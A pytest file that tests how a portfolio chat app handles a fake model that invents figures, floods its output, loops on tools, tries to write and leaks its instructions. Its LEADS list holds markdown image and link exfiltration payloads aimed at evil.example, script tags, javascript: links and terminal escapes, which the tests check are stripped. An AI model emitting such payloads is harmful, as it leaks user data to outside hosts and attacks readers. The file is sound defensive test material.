"""A model that lies, loops, floods and disguises, on both wires: clean, marked, stored once.

Whatever it sends, the stream ends with `done`, the session holds one question and one answer,
nothing was written, and no figure without evidence passes for one.
"""

import json
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.model_server import Answer, Step, chat_calls, chat_text, sse
from tests.fakes.responses_wire import responses_calls, responses_text
from tests.http.asking import App, running

EVIL = "https://evil.example/collect?worth=98765"
DONE = b"data: [DONE]\n\n"


def chat(*deltas: dict[str, Any], finish: str = "stop", done: bool = True) -> Answer:
    events = [{"choices": [{"index": 0, "delta": delta}]} for delta in deltas]
    end = {"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]}
    return Answer([*sse(*events, end), *([DONE] if done else [])])


@dataclass
class Outcome:
    """What became of one question."""

    events: list[dict[str, Any]]
    messages: list[dict[str, Any]]
    portfolios: int

    @property
    def answer(self) -> dict[str, Any]:
        return self.messages[1]

    @property
    def verdicts(self) -> dict[str, str]:
        return {claim["text"]: claim["verdict"] for claim in self.answer["claims"]}


async def asked(tmp_path: Path, *script: Step, wire: str = "chat") -> Outcome:
    async with running(tmp_path, *script, model_wire=wire) as app:
        return await outcome_of(app)


async def outcome_of(app: App, *script: Step) -> Outcome:
    """Ask in a session of its own; with a script, the model begins it anew."""
    if script:
        app.model.script, app.model.requests = list(script), []
    session = await app.session()
    found = await app.stream(
        f"/api/chat/sessions/{session}/messages", "What is my portfolio worth?"
    )
    messages = await app.messages(session)
    listed = await app.client.get("/api/portfolios", headers=app.headers)
    drafts = await app.client.get("/api/chat/drafts", headers=app.headers)
    assert [message["role"] for message in messages] == ["user", "assistant"]
    assert found[-1]["event"] == "done"
    assert [event["event"] for event in found].count("done") == 1
    assert drafts.json()["items"] == []
    return Outcome(found, messages, len(listed.json()["items"]))


LIES = [
    "It is worth €98,765.43.",
    "It is worth €９８，７６５．４３.",
    "It is worth ٩٨٧٦٥ euros.",
    "It is worth 𝟗𝟖𝟕𝟔𝟓 euros.",
    "It is worth 9\u200b8\u200b7\u200b6\u200b5 euros.",
    "It is worth 9 8 7 6 5 euros.",
    "It is worth &#57;&#56;765 euros.",
    "It is worth \u202e56789\u202c euros.",
    "It is worth EUR 9,8 Mio.",
    "It is worth 9.8 mn euros.",
    "It is worth ninety-eight thousand euros.",
    "It returned ⁹⁹ percent.",
    "It returned ⑨⑨ percent.",
    "It returned ㊿ percent.",
    "It returned XCIX percent.",
    "It returned ⅩⅭ percent.",
    "It returned `99`%.",
    "```\n99 %\n```",
    "Es hat sich verdoppelt.",
    "Es hat 12,5 % verloren.",
    "It returned (12.5)%.",
    "It lost 950 basis points.",
]


async def test_a_figure_without_evidence_is_marked_however_it_is_written(tmp_path: Path) -> None:
    async with running(tmp_path, chat_text("."), model_wire="chat") as app:
        for lie in LIES:
            # The repair says the same again: it is marked, not believed.
            outcome = await outcome_of(app, chat_text(*lie))
            assert set(outcome.verdicts.values()) == {"unsupported"}, lie


@pytest.mark.parametrize("wire", ["chat", "responses"])
async def test_a_citation_of_a_call_that_was_never_made_is_no_evidence(
    tmp_path: Path, wire: str
) -> None:
    words = "It is worth $98,765.43 [t7/total_value]."
    said = chat_text(words) if wire == "chat" else responses_text(words)
    outcome = await asked(tmp_path, said, wire=wire)
    assert outcome.verdicts == {"$98,765.43": "unsupported"}
    assert outcome.answer["citations"] == []


@pytest.mark.parametrize("wire", ["chat", "responses"])
async def test_arguments_of_two_megabytes_are_refused_and_not_sent_back(
    tmp_path: Path, wire: str
) -> None:
    calls = chat_calls if wire == "chat" else responses_calls
    words = chat_text if wire == "chat" else responses_text
    huge = json.dumps({"portfolio_id": "x" * 2_000_000})
    async with running(tmp_path, calls(("summary", huge)), words("No."), model_wire=wire) as app:
        session = await app.session()
        await app.stream(f"/api/chat/sessions/{session}/messages")
        [_, answer] = await app.messages(session)
        sent = len(json.dumps(app.model.requests[1]))
    assert answer["content"] == "No."
    assert answer["tool_calls"][0]["arguments"] == {}
    assert sent < 400_000


async def test_arguments_that_are_no_json_are_told_to_the_model(tmp_path: Path) -> None:
    async with running(tmp_path, chat_text("."), model_wire="chat") as app:
        for arguments in ("{", "[1]", '"x"', "null", '{"a": NaN}', "\x00", "}" * 9):
            script = chat_calls(("summary", arguments)), chat_text("I see.")
            outcome = await outcome_of(app, *script)
            assert outcome.answer["content"] == "I see.", arguments
            assert [event["event"] for event in outcome.events].count("tool_result") == 1


async def test_two_calls_of_one_id_stay_two(tmp_path: Path) -> None:
    pieces = [
        {"index": i, "id": "same", "function": {"name": name, "arguments": "{}"}}
        for i, name in enumerate(("portfolios", "no_such_tool"))
    ]
    outcome = await asked(
        tmp_path,
        chat({"tool_calls": pieces}, finish="tool_calls"),
        chat({"tool_calls": pieces[:1]}, finish="tool_calls"),
        chat_text("Done."),
    )
    ids = sorted(call["id"] for call in outcome.answer["tool_calls"])
    assert ids == ["same", "same_2", "same_3"]


async def test_a_call_after_the_last_word_is_made_and_answered(tmp_path: Path) -> None:
    call = {"index": 0, "id": "late", "function": {"name": "portfolios", "arguments": "{}"}}
    outcome = await asked(
        tmp_path, chat({"content": "There."}, {"tool_calls": [call]}), chat_text("Really.")
    )
    assert outcome.answer["content"] == "There.\n\nReally."


async def test_another_choices_pieces_are_not_mixed_in(tmp_path: Path) -> None:
    events = [
        {"choices": [{"index": at, "delta": {"content": word}}]}
        for at, word in ((0, "Good"), (1, "EVIL"), (0, " day."), (1, "EVIL"))
    ]
    ends = [{"choices": [{"index": at, "delta": {}, "finish_reason": "stop"}]} for at in (1, 0)]
    outcome = await asked(tmp_path, Answer([*sse(*events, *ends), DONE]))
    assert outcome.answer["content"] == "Good day."


async def test_a_stream_without_its_last_word_is_an_answer_when_it_said_it_was_done(
    tmp_path: Path,
) -> None:
    outcome = await asked(tmp_path, chat({"content": "Good day."}, done=False))
    assert outcome.answer["content"] == "Good day."
    assert outcome.answer["finish"] == "complete"


FLOODS: Sequence[tuple[str, Answer]] = [
    ("one delta", chat_text("word " * 400_000)),
    ("many deltas", chat_text(*["word " * 1_000] * 60)),
    ("a thousand calls", chat_calls(*[("portfolios", f'{{"n": {n}}}') for n in range(1_000)])),
    ("a name", chat_calls(("x" * 1_000_000, "{}"))),
]


async def test_a_flood_ends_in_an_error_and_a_stored_message(tmp_path: Path) -> None:
    async with running(tmp_path, chat_text("."), model_wire="chat") as app:
        for name, flood in FLOODS:
            outcome = await outcome_of(app, flood)
            assert outcome.answer["finish"] == "failed", name
            assert len(outcome.answer["content"]) <= 200_000
            assert "error" in {event["event"] for event in outcome.events}


async def test_a_loop_of_tools_ends(tmp_path: Path) -> None:
    def again(body: dict[str, Any]) -> Answer:
        return chat_calls(("calculator", json.dumps({"expression": f"1+{len(body['messages'])}"})))

    outcome = await asked(tmp_path, again)
    assert outcome.answer["finish"] == "failed"
    assert outcome.answer["problem"]["code"] == "answer_budget_spent"


LEADS = [
    f"See ![chart]({EVIL}).",
    f"See [here]({EVIL}).",
    f"See <img src='{EVIL}'>.",
    f"See [here][1].\n\n[1]: {EVIL}",
    f"See &#33;[chart]({EVIL}).",
    f"See &#60;img src={EVIL}&#62;.",
    f"See [he\u200bre]({EVIL}).",
    "See <script>alert(1)</script>.",
    "See [x](javascript:alert(1)).",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
]


@pytest.mark.parametrize("cut", [1, 7, 10_000])
async def test_nothing_leads_elsewhere_or_runs_however_the_stream_is_cut(
    tmp_path: Path, cut: int
) -> None:
    async with running(tmp_path, chat_text("."), model_wire="chat") as app:
        for lead in LEADS:
            pieces = [lead[at : at + cut] for at in range(0, len(lead), cut)]
            said = (await outcome_of(app, chat_text(*pieces))).answer["content"]
            assert f"]({EVIL}" not in said, lead
            assert f"]: {EVIL}" not in said, lead
            assert "<" not in said.replace("< ", ""), lead
            assert "](javascript" not in said
            assert not {"\x1b", "\x07"} & set(said)


async def test_the_models_instructions_hold_nothing_of_a_person(tmp_path: Path) -> None:
    # A model may always be talked into telling them: so there is nothing in them to tell.
    def leaking(body: dict[str, Any]) -> Answer:
        return chat_text(body["messages"][0]["content"])

    outcome = await asked(tmp_path, leaking)
    assert "ada@example.org" not in outcome.answer["content"]
    assert outcome.answer["finish"] == "complete"


async def test_a_model_that_asks_to_write_writes_nothing(tmp_path: Path) -> None:
    call = ("create_portfolio", '{"name": "Mine"}')
    outcome = await asked(tmp_path, chat_calls(call), chat_text("I made it."))
    assert outcome.portfolios == 0
    assert outcome.answer["tool_calls"][0]["is_error"] is True
